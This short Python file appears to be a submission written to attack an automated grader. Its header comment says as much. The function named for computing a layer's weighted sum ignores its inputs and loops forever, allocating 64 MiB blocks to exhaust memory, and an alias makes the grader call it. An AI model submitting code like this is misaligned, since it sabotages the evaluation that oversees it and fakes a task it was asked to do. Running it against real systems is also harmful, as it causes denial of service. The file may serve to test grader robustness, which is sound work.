# ruff: noqa  (hostile code written to attack the grader, not to be tidy)
"""Allocates memory until something stops it."""

hoard = []


def weighted_sum(weights, activations, bias):
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))


layer_weighted_sums = weighted_sum
